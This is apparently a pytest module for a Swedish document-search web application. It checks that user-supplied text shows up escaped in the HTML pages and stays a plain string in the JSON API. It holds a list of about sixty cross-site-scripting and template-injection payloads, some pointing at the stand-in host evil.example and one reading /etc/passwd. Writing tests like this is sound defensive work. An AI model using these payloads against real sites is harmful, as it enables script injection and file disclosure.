"""Nothing that stands in a file, a file name, a question or a facet is ever markup."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest
from bs4 import BeautifulSoup

from searchlib.documents import Participant
from searchlib.results import Facet, Facets, FormCount
from tests.webui.clients import client_of
from tests.webui.fake import FakeIndex, minutes_of

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<form action=//evil.example><input name=q>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</mark><script>alert(1)</script>",
    "<mark>falsk</mark>",
    "</article></main></body></html><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    "<!DOCTYPE html><!ENTITY x 'y'>",
    '" onmouseover=alert(1) x="',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "&quot;&apos;&lt;&gt;",
    "{{7*7}}",
    "{{ config.items() }}",
    "{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
    "\u202e<script>)1(trela</script>",
    "`<b>`'\"\\/",
    '=HYPERLINK("http://evil.example")',
    "@import url(//evil.example)",
    "<xss style=behavior:url(x)>",
]
HARMLESS = "ofarligt"


def poisoned(payload):
    """An index in which everything that a page can show is the payload."""
    minutes = minutes_of(
        f"{payload.replace('/', '_')}.txt",
        payload,
        "2015-10-23",
        [(None, f"före {payload} efter"), (payload, payload), (payload, f"{payload} {payload}")],
        organ=payload,
        kind=payload,
        reference_number=payload,
        reference_numbers=(payload,),
        participants=(Participant(payload, payload),),
        place=payload,
        url=f"https://exempel.se/{payload}",
    )
    index = FakeIndex([minutes])
    index.changes = {
        "explanation": payload,
        "suggestion": payload,
        "forms": (FormCount(payload, 2, "inflection"),),
        "facets": Facets((Facet(2015, 1),), (Facet(payload, 1),), (Facet(payload, 1),)),
    }
    return index, minutes


def pages_of(minutes, payload):
    said = quote(payload, safe="")
    return [
        "/",
        f"/sok?q={said}&organ={said}&typ={said}&utan={said}",
        f"/sok?q={said}&organ=annat",
        f"/sok?{said}=1",
        f"/dokument/{minutes.id}?q={said}",
        f"/dokument/{said}",
        f"/{said}",
    ]


def read(answer):
    return BeautifulSoup(answer.text, "html.parser")


def shape(page):
    """The page without its words: elements and names of attributes, in order."""
    return [(tag.name, sorted(tag.attrs)) for tag in page.find_all(True)]


def test_there_are_sixty_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.fixture(scope="module")
def harmless():
    """Status and shape of every page when the words are harmless."""
    index, minutes = poisoned(HARMLESS)
    answers = [client_of(index).get(path) for path in pages_of(minutes, HARMLESS)]
    return [(answer.status_code, shape(read(answer))) for answer in answers]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_changes_no_page_but_its_words(payload, harmless):
    index, minutes = poisoned(payload)
    client = client_of(index)
    for path, (status, expected) in zip(pages_of(minutes, payload), harmless, strict=True):
        answer = client.get(path)
        assert answer.mimetype == "text/html"
        page = read(answer)
        if answer.status_code == status:
            assert shape(page) == expected, path
        else:
            # A slash in a payload makes another path of it, and so another page: none of them at all.
            assert (answer.status_code, "/" in payload) in {(404, True), (308, True)}
        for tag in page.find_all(["a", "form", "link"]):
            address = tag.get("href") or tag.get("action")
            assert address.startswith(("/", "#", "https://exempel.se/"))
            assert not address.startswith("//")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_read_as_it_was_written(payload):
    index, minutes = poisoned(payload)
    page = BeautifulSoup(client_of(index).get(f"/dokument/{minutes.id}").text, "html.parser")
    assert page.h1.get_text() == payload
    assert page.select("section.section > p:not([class])")[0].get_text() == f"före {payload} efter"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_json_is_a_string(payload):
    index, minutes = poisoned(payload)
    client = client_of(index)
    for path in (
        f"/api/v1/search?q={quote(payload, safe='')}",
        f"/api/v1/documents/{minutes.id}",
        "/api/v1/search?fel=1",
    ):
        answer = client.get(path)
        assert answer.mimetype == "application/json"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        json.loads(answer.text)
    assert client.get(f"/api/v1/documents/{minutes.id}").get_json()["title"] == payload
